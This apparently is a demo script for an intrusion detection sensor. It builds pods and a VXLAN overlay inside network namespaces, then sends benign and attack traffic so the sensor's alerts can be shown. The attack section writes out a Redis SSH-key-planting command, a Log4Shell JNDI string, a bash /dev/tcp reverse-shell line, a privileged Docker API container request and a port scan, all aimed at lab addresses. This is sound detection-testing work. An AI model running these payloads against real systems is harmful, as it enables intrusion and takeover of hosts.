#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-only
#
# `make demo`: the live sensor on a small "node" built from network namespaces.
#
#   node:  bridge br0 10.244.1.0/24 with pods a (.11), b (.12), c (.13) on veths,
#          flannel.1 (VXLAN 8472) towards node2 over an "uplink" veth
#   node2: pod d (10.244.2.11) behind its own bridge, reached through the overlay
#
# `weir run` watches the node's veth* and flannel.1 with the bundled signatures
# and heuristics. The script sends normal traffic and a few attacks between
# pods, prints the alerts, and removes everything it made. Needs root.
set -u
cd "$(dirname "$0")/.."
export PFX=wdemo
. tests/netns/lib.sh
KEEP_WORK=${KEEP_WORK:-}

say() { printf '\n\033[1m# %s\033[0m\n' "$*" >&2; }

netns_init
NODE2=$PFX-node2
node2() { ip netns exec "$NODE2" "$@"; }

say "building the node: 3 pods on a bridge, 1 pod behind a VXLAN overlay"
pod_add a 11
pod_add b 12
pod_add c 13
ip netns add "$NODE2"
node2 ip link set lo up
node ip link add uplink0 type veth peer name uplink0 netns "$NODE2"
node ip addr add 192.168.100.1/24 dev uplink0
node ip link set uplink0 up
node2 ip addr add 192.168.100.2/24 dev uplink0
node2 ip link set uplink0 up
node ip link add flannel.1 type vxlan id 1 local 192.168.100.1 remote 192.168.100.2 dstport 8472 dev uplink0
node2 ip link add flannel.1 type vxlan id 1 local 192.168.100.2 remote 192.168.100.1 dstport 8472 dev uplink0
node ip addr add 10.244.255.1/24 dev flannel.1
node2 ip addr add 10.244.255.2/24 dev flannel.1
node ip link set flannel.1 up
node2 ip link set flannel.1 up
node ip route add 10.244.2.0/24 via 10.244.255.2
node2 sysctl -qw net.ipv4.ip_forward=1
node2 ip link add br0 type bridge
node2 ip addr add 10.244.2.1/24 dev br0
node2 ip link set br0 up
node2 ip route add 10.244.1.0/24 via 10.244.255.1
ip netns add "$PFX-d"
node2 ip link add vethd type veth peer name eth0 netns "$PFX-d"
node2 ip link set vethd master br0 up
pod d ip addr add 10.244.2.11/24 dev eth0
pod d ip link set eth0 up
pod d ip route add default via 10.244.2.1
pod a ping -c 1 -W 2 -q 10.244.2.11 >/dev/null || echo "warning: overlay not reachable" >&2

say "starting: weir run --workers 2 --eve $WORK/eve.json (bundled signatures + heuristics)"
if ! weir_start -v; then
	echo "weir run did not start:" >&2
	cat "$WORK/weir.err" >&2
	exit 1
fi
grep -E "attached|running" "$WORK/weir.err" | sed 's/^/  /' >&2

say "normal traffic: HTTP between pods, DNS-like UDP, ping over the overlay"
# Servers run outside the shell's job table, so cleanup kills them quietly.
(pod c /usr/bin/python3 -m http.server 8080 --bind 10.244.1.13 >/dev/null 2>&1 &)
(pod b socat -u TCP-LISTEN:6379,reuseaddr,fork OPEN:/dev/null >/dev/null 2>&1 &)
(pod d socat -u TCP-LISTEN:2375,reuseaddr,fork OPEN:/dev/null >/dev/null 2>&1 &)
for i in $(seq 1 50); do
	pod a nc -z -w 1 10.244.1.13 8080 2>/dev/null && break
	sleep 0.1
done
for i in 1 2 3; do
	printf 'GET / HTTP/1.1\r\nHost: c\r\nConnection: close\r\n\r\n' | pod a socat - TCP:10.244.1.13:8080 >/dev/null
done
printf 'SET greeting hello\r\nGET greeting\r\n' | pod a socat -u - TCP:10.244.1.12:6379
pod a ping -c 3 -i 0.2 -q 10.244.2.11 >/dev/null

say "attacks: Redis CONFIG SET dir, Log4Shell, reverse shell, Docker API over the overlay, a port scan"
printf 'CONFIG SET dir /root/.ssh\r\nCONFIG SET dbfilename authorized_keys\r\n' | pod a socat -u - TCP:10.244.1.12:6379
printf 'GET / HTTP/1.1\r\nHost: c\r\nUser-Agent: ${jndi:ldap://10.244.1.11:1389/a}\r\nConnection: close\r\n\r\n' | pod a socat - TCP:10.244.1.13:8080 >/dev/null
printf 'GET /cgi HTTP/1.1\r\nHost: c\r\nX: bash -i >& /dev/tcp/10.244.1.11/4444 0>&1\r\nConnection: close\r\n\r\n' | pod b socat - TCP:10.244.1.13:8080 >/dev/null
printf 'POST /v1.41/containers/create HTTP/1.1\r\nHost: d:2375\r\nContent-Type: application/json\r\nContent-Length: 60\r\n\r\n{"Image":"alpine","HostConfig":{"Privileged":true,"Binds":[]}}' | pod a socat -u - TCP:10.244.2.11:2375
for p in $(seq 20 60); do pod a nc -z -w 1 10.244.1.12 "$p" 2>/dev/null; done
sleep 2

say "stopping weir (SIGTERM: detach, flush)"
weir_stop TERM
rc=$?

say "alert events, as EVE JSON"
grep '"event_type":"alert"' "$WORK/eve.json"

say "alerts, one line each"
/usr/bin/python3 - "$WORK/eve.json" <<'PY'
import json, sys, collections
types = collections.Counter()
seen = collections.OrderedDict()
for line in open(sys.argv[1]):
    e = json.loads(line)
    types[e["event_type"]] += 1
    if e["event_type"] != "alert":
        continue
    a = e["alert"]
    key = (e["src_ip"], e["dest_ip"], e.get("dest_port"), a["signature_id"], a["signature"])
    seen[key] = seen.get(key, 0) + 1
for (src, dst, port, sid, sig), n in seen.items():
    print("  %-13s -> %-13s %-6s [%d] %s%s" % (src, dst, port if port is not None else "-", sid, sig,
          "  (x%d)" % n if n > 1 else ""))
print("\n  events: " + ", ".join("%s %d" % kv for kv in sorted(types.items())))
PY
[ -n "$KEEP_WORK" ] && echo "  EVE JSON: $WORK/eve.json" >&2
[ -n "$KEEP_WORK" ] && trap - EXIT && echo "  namespaces kept: ip netns list | grep $PFX" >&2
exit $rc
